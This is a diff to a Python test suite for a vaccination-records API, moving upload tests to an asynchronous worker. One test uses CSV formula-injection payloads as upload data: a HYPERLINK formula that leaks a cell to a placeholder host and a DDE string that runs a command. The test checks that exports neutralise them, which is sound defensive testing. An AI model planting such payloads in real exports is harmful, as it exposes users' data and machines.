@@ -24,8 +24,15 @@ def bearer(a: w.Actor) -> dict[str, str]:
     return {"authorization": f"Bearer {a.token}"}
 
 
+def ingested(app, r) -> int:
+    """The id of the batch an API upload answered for, once the server's worker is done with it."""
+    assert r.status_code == 202, r.text
+    assert app.state.vx.jobs.wait_idle(120)
+    return int(r.json()["batch_id"])
+
+
 @pytest.mark.db
-def test_text_from_a_batch_never_reaches_a_spreadsheet_as_a_formula(client, world):
+def test_text_from_a_batch_never_reaches_a_spreadsheet_as_a_formula(app, client, world):
     health = world.actors[("health_officer", "parent_district")]
     names = ['"=HYPERLINK(""http://x/?""&A1,""Click"")"', "=1+1", "\"+cmd|' /C calc'!A0\"", "@SUM(1;2)"]
     rows = [f"f{i},{n},01/01/1970,Nam,,{w.WARD_A},2021-10-01,1,Pfizer" for i, n in enumerate(names)]
@@ -34,8 +41,7 @@ def test_text_from_a_batch_never_reaches_a_spreadsheet_as_a_formula(client, worl
         files={"file": ("formulas.csv", (HEADER + "\n".join(rows) + "\n").encode(), "text/csv")},
         headers=bearer(health),
     )
-    assert r.status_code == 200, r.text
-    bid = r.json()["batch_id"]
+    bid = ingested(app, r)
     answer = client.get(f"/api/v1/batches/{bid}/answer?format=csv", headers=bearer(health))
     got = [row["full_name"] for row in csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig")))]
     assert got == [
@@ -151,11 +157,16 @@ def test_bodies_past_the_routes_limit_are_refused(app, client, world):
 
 
 @pytest.mark.db
-def test_a_refused_upload_is_removed_from_disk(client, world, web_settings):
+def test_a_refused_upload_is_removed_from_disk(app, client, world, web_settings):
     health = world.actors[("health_officer", "parent_district")]
-    for name, content in (("bad.xlsx", b"not a workbook at all"), ("empty.csv", b"")):
-        r = client.post("/api/v1/batches", files={"file": (name, content)}, headers=bearer(health))
-        assert r.status_code == 422, r.text
+    # Refused by the request (nothing to read) or by the worker (not what its name says).
+    r = client.post("/api/v1/batches", files={"file": ("empty.csv", b"")}, headers=bearer(health))
+    assert r.status_code == 422 and r.json()["code"] == "EMPTY_FILE", r.text
+    r = client.post(
+        "/api/v1/batches", files={"file": ("bad.xlsx", b"not a workbook at all")}, headers=bearer(health)
+    )
+    bid = ingested(app, r)
+    assert client.get(f"/api/v1/batches/{bid}", headers=bearer(health)).json()["status"] == "failed"
     uploads = Path(web_settings.work_dir) / "uploads"
     assert not uploads.exists() or [p for p in uploads.rglob("*") if p.is_file()] == []
 
@@ -164,7 +175,7 @@ def test_a_refused_upload_is_removed_from_disk(client, world, web_settings):
 
 
 @pytest.mark.db
-def test_the_answer_returns_no_id_the_record_did_not_carry(client, world, engine):
+def test_the_answer_returns_no_id_the_record_did_not_carry(app, client, world, engine):
     from vaxlink.services.answers import WITHHELD
     from vaxlink.storage.models import Citizen
 
@@ -183,8 +194,7 @@ def test_the_answer_returns_no_id_the_record_did_not_carry(client, world, engine
         files={"file": ("oracle.csv", (HEADER + "\n".join(rows) + "\n").encode(), "text/csv")},
         headers=bearer(health),
     )
-    assert r.status_code == 200, r.text
-    bid = r.json()["batch_id"]
+    bid = ingested(app, r)
     before = events(engine, "batch_answer_downloaded")
     answer = client.get(f"/api/v1/batches/{bid}/answer?format=csv", headers=bearer(health))
     got = {row["record_id"]: row for row in csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig")))}
@@ -207,7 +217,7 @@ def events(engine, action: str) -> int:
 
 
 @pytest.mark.db
-def test_batch_visibility_follows_the_batch_not_its_uploader(client, world, engine):
+def test_batch_visibility_follows_the_batch_not_its_uploader(app, client, world, engine):
     from vaxlink.storage.models import AppUser
 
     uploader = world.actors[("health_officer", "parent_district")]
@@ -218,7 +228,7 @@ def test_batch_visibility_follows_the_batch_not_its_uploader(client, world, engi
         files={"file": ("jur.csv", (HEADER + rows).encode(), "text/csv")},
         headers=bearer(uploader),
     )
-    bid = r.json()["batch_id"]
+    bid = ingested(app, r)
     assert client.get(f"/api/v1/batches/{bid}/answer", headers=bearer(uploader)).status_code == 200
     # The two officers swap posts (roles unchanged, tokens still valid).
     with transaction(engine) as s:
